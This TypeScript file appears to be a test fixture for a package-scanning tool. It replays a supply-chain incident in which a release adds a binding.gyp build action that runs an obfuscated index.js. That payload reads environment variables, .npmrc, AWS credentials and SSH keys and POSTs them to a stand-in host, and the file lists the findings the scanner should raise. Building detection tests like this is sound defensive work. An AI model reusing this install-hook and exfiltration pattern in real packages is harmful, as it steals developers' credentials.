import { obfuscated } from '../obfuscated.js'
import { compiledQueue } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { type Release, upgradeOf } from '../scene.js'
import { onVersion, type PackageFinding } from '../upgrade.js'

const gyp = `{
  "targets": [
    {
      "target_name": "prebuild",
      "type": "none",
      "actions": [
        {
          "action_name": "setup",
          "inputs": [],
          "outputs": ["inert"],
          "action": ["node", "index.js"]
        }
      ]
    }
  ]
}
`

/** Megabytes in the incident. */
const payload = obfuscated(
  `
const $fs=require(«fs»),$os=require(«os»),$path=require(«path»);
async function $main(){const $found=[JSON[«stringify»](process[«env»])];
for(const $place of [«.npmrc»,«.aws/credentials»,«.ssh/id_rsa»]){
try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
await fetch(«https://rstreams-metrics.example/p»,{'method':«POST»,'body':$found[«join»](«»)[«slice»](0x0,0x0)});
}
$main()[«catch»](()=>{});
`,
  800,
)

const manifest = { main: 'dist/index.js' }
const files = { 'dist/index.js': compiledQueue }

/** Of one account; before, each came out by itself. */
const platform = ['leo-auth', 'leo-logger', 'leo-sdk'] as const

const before = (month: number): Release => ({
  version: '4.0.5',
  manifest,
  files,
  published: `2026-0${month}-12T12:00:00Z`,
})
const after = (second: number): Release => ({
  version: '4.0.6',
  manifest,
  files: { ...files, 'binding.gyp': gyp, 'index.js': payload },
  published: `2026-06-24T12:00:0${second}Z`,
})

const findings: readonly PackageFinding[] = [
  ['install-script-dangerous', 'critical', { file: 'index.js', line: payload }],
  ['secrets-exfiltrated', 'critical', { file: 'index.js', line: payload }],
  ['secrets-harvested', 'critical', { file: 'index.js', line: payload }],
  ['combined-risk', 'critical'],
  ['capability-added', 'high', { file: 'index.js', line: payload }],
  ['code-obfuscated', 'high', { file: 'index.js' }],
  ['implicit-build-added', 'high', { file: 'binding.gyp' }],
  ['beacon-added', 'high', { file: 'index.js', line: payload }],
  ['network-host-added', 'medium', { file: 'index.js', line: payload }],
  ['release-burst', 'medium'],
  ['release-fresh', 'medium'],
]

export const replay: Replay = {
  description:
    'All packages of a platform within three seconds, with a build of nothing: its rule called for a command, and the command was the ' +
    'attack. They have no scope in common, only the account that published them.',
  date: '2026-06-24',
  reviewedAt: '2026-06-24T18:00:00Z',
  ...upgradeOf(
    Object.fromEntries(platform.map((name, index) => [name, { before: before(1 + index), after: after(index) }])),
  ),
  expected: {
    verdict: 'flagged',
    findings: platform.flatMap((name) => findings.map((finding) => onVersion(name, '4.0.6', finding))),
  },
}
